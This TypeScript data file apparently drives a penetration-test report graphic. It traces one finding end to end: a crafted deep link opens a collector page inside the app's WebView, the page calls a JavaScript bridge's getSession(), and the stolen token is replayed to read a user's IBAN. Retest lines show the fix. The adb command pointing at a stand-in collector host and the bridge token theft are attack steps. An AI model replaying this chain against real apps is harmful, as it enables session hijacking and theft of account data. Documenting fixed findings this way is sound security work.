import { findingPrefix } from '#contract/finding-numbers.ts';
import type { AttackPath } from './attack-path.ts';

export const mobilePath: AttackPath = {
  id: `${findingPrefix}-2026-024`,
  title: 'One link gives away the session',
  vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:A/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N',
  reported: '2026-02-19',
  retested: '2026-03-05',
  answers: ['token', 'blocked'],
  cut: 2,
  sides: [
    { label: 'Keystore: locked', from: 1, at: 2.2, lane: 0 },
    { label: 'pinned TLS', from: 2, at: 3, lane: 2 },
  ],
  hops: [
    {
      label: 'stock phone',
      glyph: 'phone',
      lane: 1,
      name: 'Send a link in a chat',
      lines: [
        '$ adb shell am start -W -a android.intent.action.VIEW \\',
        '    -d "kestrel://open?url={-https://collector.tester.example-}"',
      ],
    },
    {
      label: 'WebView',
      glyph: 'box',
      lane: 2,
      name: 'Land inside the app',
      lines: [
        'Status: ok',
        'Activity: com.kestrel.app/{!.WebActivity!} {#1}',
        'loaded: {-https://collector.tester.example/x.html-}',
      ],
      notes: ['opens any address, with the bridge attached'],
      after: [
        'Status: ok',
        'Activity: com.kestrel.app/{+.BrowserActivity+}',
        '# other hosts open in the browser, without the bridge',
      ],
    },
    {
      label: 'JavaScript bridge',
      glyph: 'key',
      lane: 1,
      name: 'Call getSession()',
      lines: [
        '$ frida -U -N com.kestrel.app -l bridge.js',
        '[bridge] KestrelBridge.getSession() called',
        '[bridge] caller: {-https://collector.tester.example/x.html-}',
        '[bridge] return: {!eyJhbGciOiJSUzI1NiJ9.[redacted]!}',
      ],
      after: ['$ frida -U -N com.kestrel.app -l bridge.js', '{+[bridge] no call in 10 minutes+}'],
    },
    {
      label: 'API as the victim',
      glyph: 'server',
      lane: 0,
      name: 'Use the token elsewhere',
      lines: [
        'GET /v3/me HTTP/2',
        'authorization: Bearer {-[the phone’s token]-}',
        '',
        'HTTP/2 200',
        '{ "name": {!"Second Tester"!}, "iban": {!"DE89 [...]"!} }',
      ],
      after: ['GET /v3/me HTTP/2', 'authorization: Bearer {-[old token]-}', '', '{+HTTP/2 401+}'],
    },
  ],
};
